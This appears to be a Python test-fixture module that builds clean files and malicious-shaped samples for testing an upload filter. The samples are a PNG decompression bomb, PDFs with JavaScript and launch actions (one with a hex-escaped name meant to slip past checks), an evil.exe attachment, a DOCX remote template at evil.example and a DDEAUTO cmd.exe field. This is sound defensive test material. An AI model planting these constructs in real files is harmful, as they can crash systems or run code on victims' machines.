"""Files made on the fly: good ones of every kept type, and bad ones of every refusal."""

import struct
import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from openpyxl import Workbook
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
TYPES_XML = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
WORD_XML = b"<w:document><w:body><w:p/></w:body></w:document>"


def picture(kind: str = "JPEG", *, size: tuple[int, int] = (640, 480), mode: str = "RGB") -> bytes:
    file = BytesIO()
    Image.linear_gradient("L").resize(size).convert(mode).save(file, kind)
    return file.getvalue()


def photo_with_position() -> bytes:
    image = Image.new("RGB", (400, 300), "teal")
    tags = Image.Exif()
    tags[0x010F] = "SecretCamera"
    tags[0x8769] = {0x9003: "2026:03:01 09:30:15", 0x9011: "+08:00"}
    tags[0x8825] = {1: "N", 2: (23.0, 25.0, 12.0), 3: "E", 4: (111.0, 4.0, 48.0)}
    file = BytesIO()
    image.save(file, "JPEG", exif=tags)
    return file.getvalue()


def png_bomb(*, width: int = 30_000, height: int = 30_000) -> bytes:
    """Nine hundred million black pixels in under a megabyte."""
    row = b"\x00" + b"\x00" * (width // 8)
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    chunks = ((b"IHDR", header), (b"IDAT", body), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(name, data) for name, data in chunks)


def pdf(*, pages: int = 1) -> bytes:
    return _written(_writer(pages))


def pdf_with_script() -> bytes:
    return _raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS 4 0 R >> >>", b"null"
    )


def pdf_with_attachment() -> bytes:
    writer = _writer(1)
    writer.add_attachment("evil.exe", b"MZ")
    return _written(writer)


def pdf_with_action(kind: str) -> bytes:
    writer = _writer(1)
    action = DictionaryObject(
        {NameObject("/S"): NameObject(kind), NameObject("/F"): TextStringObject("calc.exe")}
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _written(writer)


def pdf_with_hidden_script() -> bytes:
    """The action's type stands in an object of its own, its name written with a hex escape."""
    return _raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S 5 0 R /F (x) >> >>", b"/Java#53cript"
    )


def pdf_locked() -> bytes:
    writer = _writer(1)
    writer.encrypt("secret", algorithm="RC4-128")
    return _written(writer)


def xlsx() -> bytes:
    book = Workbook()
    book.active.append(["船名", "吨位"])  # type: ignore[union-attr]  # a new book has a sheet
    file = BytesIO()
    book.save(file)
    return file.getvalue()


def docx(part: str = "", content: bytes = b"x") -> bytes:
    """A minimal document, with one more part where one is named."""
    parts = {"[Content_Types].xml": TYPES_XML, "word/document.xml": WORD_XML}
    return zipped({**parts, part: content} if part else parts)


def docx_with_outside_template() -> bytes:
    relation = (
        b'<Relationship Type="http://x/relationships/attachedTemplate" '
        b'Target="http://evil.example/a.dotm" TargetMode="External"/>'
    )
    return docx("word/_rels/settings.xml.rels", relation)


def docx_with_running_field() -> bytes:
    return docx("word/header1.xml", b"<w:instrText> DDEAUTO c:\\\\cmd.exe </w:instrText>")


def docx_with_entity() -> bytes:
    return docx("word/a.xml", b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>')


def office_of_many_parts() -> bytes:
    return zipped({f"word/{number}.xml": b"" for number in range(3_001)})


def zipped(parts: dict[str, bytes]) -> bytes:
    file = BytesIO()
    with ZipFile(file, "w", ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return file.getvalue()


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def _writer(pages: int) -> PdfWriter:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=200, height=200)
    return writer


def _written(writer: PdfWriter) -> bytes:
    file = BytesIO()
    writer.write(file)
    return file.getvalue()


def _raw_pdf(catalogue: bytes, fifth: bytes) -> bytes:
    objects = [
        catalogue,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        b"(none)",
        fifth,
    ]
    body, offsets = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"xref\n0 6\n0000000000 65535 f \n"
    table += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    trailer = b"trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % len(body)
    return body + table + trailer
